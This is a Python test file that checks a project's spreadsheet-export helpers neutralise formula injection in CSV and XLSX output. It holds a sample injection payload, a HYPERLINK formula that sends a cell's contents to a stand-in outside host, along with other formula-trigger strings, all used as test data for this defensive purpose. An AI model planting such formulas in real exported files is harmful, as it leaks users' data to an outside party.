import csv
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from jigiya.core.spreadsheets import csv_text, safe_cell, xlsx_bytes

FORMULA = '=HYPERLINK("http://x"&A1,"Cliquez")'


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_text_that_could_start_a_formula_gets_a_quote_and_nothing_else_changes():
    assert [safe_cell(text) for text in ("=1+1", "+223 70", "-2", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+223 70",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [safe_cell(value) for value in ("Awa", "a=b", "", None, -5, -2.5, Decimal("-1.5"))] == [
        "Awa",
        "a=b",
        "",
        None,
        -5,
        -2.5,
        Decimal("-1.5"),
    ]


def test_csv_cells_are_inert_and_numbers_stay_numbers():
    text = csv_text(["name", "amount"], [[FORMULA, -1500], ["@cmd", None], ["Awa", 0]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["name", "amount"],
        ["'" + FORMULA, "-1500"],
        ["'@cmd", ""],
        ["Awa", "0"],
    ]


def test_xlsx_writes_text_as_text_never_as_a_formula():
    content = xlsx_bytes(
        ["name", "amount", "share"],
        [[FORMULA, -1500, Decimal("-2.5")], ["=1+1", None, 0.5], ["\x01=2+2\x07", 3, 1]],
    )
    sheet = _sheet(content)
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        ["name", "amount", "share"],
        ["'" + FORMULA, -1500, -2.5],
        ["'=1+1", None, 0.5],
        ["'=2+2", 3, 1],  # control characters XML cannot carry are dropped, then made safe
    ]
    types = [[cell.data_type for cell in row] for row in sheet.iter_rows()]
    assert types == [["s", "s", "s"], ["s", "n", "n"], ["s", "n", "n"], ["s", "n", "n"]]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
